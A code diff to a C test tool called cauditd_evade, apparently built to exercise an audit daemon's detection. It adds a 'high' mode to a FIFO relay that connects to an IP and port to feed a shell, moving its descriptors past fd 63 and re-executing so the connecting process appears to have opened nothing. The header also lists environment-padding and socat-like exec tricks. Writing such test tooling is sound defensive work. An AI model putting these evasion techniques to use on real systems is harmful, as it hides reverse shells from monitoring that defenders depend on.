@@ -30,13 +30,15 @@
  *                                        /proc/<pid>/environ shows), then sleep
  *   cauditd_evade env-pad N SIZE PROG    execute PROG (argv: "true") with N variables of SIZE
  *                                        bytes in front of its own environment
- *   cauditd_evade fifo-relay IN OUT IP PORT [fork]
+ *   cauditd_evade fifo-relay IN OUT IP PORT [fork|high]
  *                                        a relay with no pipe on its stdio: open FIFO IN to
  *                                        write, FIFO OUT to read, wait 0.3 s (the other end's
  *                                        exec, if it makes one), connect to IP:PORT, then
  *                                        write "exit" into IN; with fork, a child does the
  *                                        connect and the write (it holds the FIFOs by
- *                                        inheritance only)
+ *                                        inheritance only); with high, it moves the FIFOs to
+ *                                        fds 100 and 101 and execs itself to go on with them
+ *                                        (IN and OUT given as &100 and &101: open fds)
  *   cauditd_evade socketpair-exec listen|none PROG
  *                                        what socat EXEC does: a socketpair, one end on the
  *                                        child's fds 0-2 as it execs PROG, the other kept and
@@ -418,12 +420,34 @@ static int do_env_pad(const char *count, const char *size, const char *prog)
     return 1;
 }
 
-static int do_fifo_relay(const char *in, const char *out, const char *ip, const char *port,
-                         int forking)
+#define RELAY_HIGH_FD 100
+
+/* A FIFO named by path, or "&N": fd N, already open. */
+static int fifo_fd(const char *name, int flags)
 {
-    int feed = open(in, O_WRONLY);
-    int drain = open(out, O_RDONLY);
-    usleep(300000);
+    return name[0] == '&' ? atoi(name + 1) : open(name, flags);
+}
+
+static int do_fifo_relay(const char *in, const char *out, const char *ip, const char *port,
+                         const char *how)
+{
+    int feed = fifo_fd(in, O_WRONLY);
+    int drain = fifo_fd(out, O_RDONLY);
+    if (in[0] != '&')
+        usleep(300000);
+    if (!strcmp(how, "high")) {
+        /* the FIFOs past fd 63, then an exec: the program that connects opened nothing */
+        if (dup2(feed, RELAY_HIGH_FD) < 0 || dup2(drain, RELAY_HIGH_FD + 1) < 0)
+            perror("dup2");
+        close(feed);
+        close(drain);
+        char *argv[] = {"cauditd_evade", "fifo-relay", "&100", "&101", (char *)ip, (char *)port,
+                        NULL};
+        execv("/usr/bin/cauditd_evade", argv);
+        perror("execv");
+        return 1;
+    }
+    int forking = !strcmp(how, "fork");
     /* forking: a child that holds the FIFOs only by inheritance connects and feeds the shell */
     pid_t child = forking ? fork() : 0;
     if (child > 0) {
@@ -596,6 +620,6 @@ int main(int argc, char **argv)
     if (!strcmp(mode, "accept-fd3"))
         return do_accept_fd3(a, b);
     if (!strcmp(mode, "fifo-relay") && argc > 5)
-        return do_fifo_relay(a, b, argv[4], argv[5], argc > 6 && !strcmp(argv[6], "fork"));
+        return do_fifo_relay(a, b, argv[4], argv[5], argc > 6 ? argv[6] : "");
     return 2;
 }
